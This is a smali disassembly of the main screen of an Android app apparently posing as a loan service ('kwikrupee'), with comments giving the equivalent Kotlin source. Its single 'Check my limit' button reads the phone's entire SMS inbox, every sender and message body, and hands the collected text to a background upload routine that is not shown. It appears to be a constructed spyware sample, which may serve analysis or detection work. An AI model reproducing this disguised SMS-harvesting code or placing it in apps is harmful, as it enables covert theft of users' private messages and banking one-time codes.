.class public final Lcom/example/kwikrupee/MainActivity;
.super Landroidx/appcompat/app/AppCompatActivity;
.source "MainActivity.kt"

# Shaped like kotlinc (1.8+) + D8 output for:
#   override fun onCreate(savedInstanceState: Bundle?) {
#       super.onCreate(savedInstanceState)
#       val button = Button(this); button.text = "..."
#       button.setOnClickListener {
#           val sms = StringBuilder()
#           contentResolver.query(Uri.parse("content://sms/inbox"), arrayOf("address", "body"),
#                                 null, null, null)?.let { c -> while (c.moveToNext()) {...}; c.close() }
#           val dump = sms.toString()
#           lifecycleScope.launch(Dispatchers.IO) { upload(dump) }
#       }
#       setContentView(button)
#   }
# The click lambda becomes the static synthetic onCreate$lambda$0 (Kotlin 1.5-1.7 named it
# onCreate$lambda-0) and the D8 class MainActivity$$ExternalSyntheticLambda0; the suspend
# lambda becomes the class MainActivity$onCreate$1$1.


# direct methods
.method public constructor <init>()V
    .registers 1

    invoke-direct {p0}, Landroidx/appcompat/app/AppCompatActivity;-><init>()V

    return-void
.end method

.method static final synthetic onCreate$lambda$0(Lcom/example/kwikrupee/MainActivity;Landroid/view/View;)V
    .registers 12
    # locals v0..v9 ; p0 = this$0, p1 = clicked view

    const-string v0, "this$0"
    invoke-static {p0, v0}, Lkotlin/jvm/internal/Intrinsics;->checkNotNullParameter(Ljava/lang/Object;Ljava/lang/String;)V

    # contentResolver.query(Uri.parse("content://sms/inbox"), arrayOf("address", "body"), null, null, null)
    invoke-virtual {p0}, Lcom/example/kwikrupee/MainActivity;->getContentResolver()Landroid/content/ContentResolver;
    move-result-object v1
    const-string v0, "content://sms/inbox"
    invoke-static {v0}, Landroid/net/Uri;->parse(Ljava/lang/String;)Landroid/net/Uri;
    move-result-object v2
    const/4 v0, 0x2
    new-array v3, v0, [Ljava/lang/String;
    const/4 v0, 0x0
    const-string v4, "address"
    aput-object v4, v3, v0
    const/4 v0, 0x1
    const-string v4, "body"
    aput-object v4, v3, v0
    const/4 v4, 0x0
    const/4 v5, 0x0
    const/4 v6, 0x0
    invoke-virtual/range {v1 .. v6}, Landroid/content/ContentResolver;->query(Landroid/net/Uri;[Ljava/lang/String;Ljava/lang/String;[Ljava/lang/String;Ljava/lang/String;)Landroid/database/Cursor;
    move-result-object v1

    new-instance v7, Ljava/lang/StringBuilder;
    invoke-direct {v7}, Ljava/lang/StringBuilder;-><init>()V
    if-eqz v1, :launch

    :next_row
    invoke-interface {v1}, Landroid/database/Cursor;->moveToNext()Z
    move-result v0
    if-eqz v0, :close
    const/4 v0, 0x0
    invoke-interface {v1, v0}, Landroid/database/Cursor;->getString(I)Ljava/lang/String;
    move-result-object v0
    invoke-virtual {v7, v0}, Ljava/lang/StringBuilder;->append(Ljava/lang/String;)Ljava/lang/StringBuilder;
    const/16 v0, 0x9
    invoke-virtual {v7, v0}, Ljava/lang/StringBuilder;->append(C)Ljava/lang/StringBuilder;
    const/4 v0, 0x1
    invoke-interface {v1, v0}, Landroid/database/Cursor;->getString(I)Ljava/lang/String;
    move-result-object v0
    invoke-virtual {v7, v0}, Ljava/lang/StringBuilder;->append(Ljava/lang/String;)Ljava/lang/StringBuilder;
    const/16 v0, 0xa
    invoke-virtual {v7, v0}, Ljava/lang/StringBuilder;->append(C)Ljava/lang/StringBuilder;
    goto :next_row

    :close
    invoke-interface {v1}, Landroid/database/Cursor;->close()V

    :launch
    invoke-virtual {v7}, Ljava/lang/StringBuilder;->toString()Ljava/lang/String;
    move-result-object v0
    const-string v1, "toString(...)"
    invoke-static {v0, v1}, Lkotlin/jvm/internal/Intrinsics;->checkNotNullExpressionValue(Ljava/lang/Object;Ljava/lang/String;)V

    # lifecycleScope.launch(Dispatchers.IO) { ... }  ->  BuildersKt.launch$default(scope, IO, null, block, 2, null)
    move-object v1, p0
    check-cast v1, Landroidx/lifecycle/LifecycleOwner;
    invoke-static {v1}, Landroidx/lifecycle/LifecycleOwnerKt;->getLifecycleScope(Landroidx/lifecycle/LifecycleOwner;)Landroidx/lifecycle/LifecycleCoroutineScope;
    move-result-object v1
    check-cast v1, Lkotlinx/coroutines/CoroutineScope;
    invoke-static {}, Lkotlinx/coroutines/Dispatchers;->getIO()Lkotlinx/coroutines/CoroutineDispatcher;
    move-result-object v2
    check-cast v2, Lkotlin/coroutines/CoroutineContext;
    const/4 v3, 0x0
    new-instance v4, Lcom/example/kwikrupee/MainActivity$onCreate$1$1;
    const/4 v5, 0x0
    invoke-direct {v4, v0, v5}, Lcom/example/kwikrupee/MainActivity$onCreate$1$1;-><init>(Ljava/lang/String;Lkotlin/coroutines/Continuation;)V
    check-cast v4, Lkotlin/jvm/functions/Function2;
    const/4 v5, 0x2
    const/4 v6, 0x0
    invoke-static/range {v1 .. v6}, Lkotlinx/coroutines/BuildersKt;->launch$default(Lkotlinx/coroutines/CoroutineScope;Lkotlin/coroutines/CoroutineContext;Lkotlinx/coroutines/CoroutineStart;Lkotlin/jvm/functions/Function2;ILjava/lang/Object;)Lkotlinx/coroutines/Job;

    return-void
.end method


# virtual methods
.method protected onCreate(Landroid/os/Bundle;)V
    .registers 4
    # locals v0, v1 ; p0 = this, p1 = savedInstanceState

    invoke-super {p0, p1}, Landroidx/appcompat/app/AppCompatActivity;->onCreate(Landroid/os/Bundle;)V

    new-instance v0, Landroid/widget/Button;
    move-object v1, p0
    check-cast v1, Landroid/content/Context;
    invoke-direct {v0, v1}, Landroid/widget/Button;-><init>(Landroid/content/Context;)V
    const-string v1, "Check my limit / \u67e5\u770b\u6211\u7684\u989d\u5ea6"
    check-cast v1, Ljava/lang/CharSequence;
    invoke-virtual {v0, v1}, Landroid/widget/Button;->setText(Ljava/lang/CharSequence;)V

    new-instance v1, Lcom/example/kwikrupee/MainActivity$$ExternalSyntheticLambda0;
    invoke-direct {v1, p0}, Lcom/example/kwikrupee/MainActivity$$ExternalSyntheticLambda0;-><init>(Lcom/example/kwikrupee/MainActivity;)V
    invoke-virtual {v0, v1}, Landroid/widget/Button;->setOnClickListener(Landroid/view/View$OnClickListener;)V

    check-cast v0, Landroid/view/View;
    invoke-virtual {p0, v0}, Lcom/example/kwikrupee/MainActivity;->setContentView(Landroid/view/View;)V

    return-void
.end method
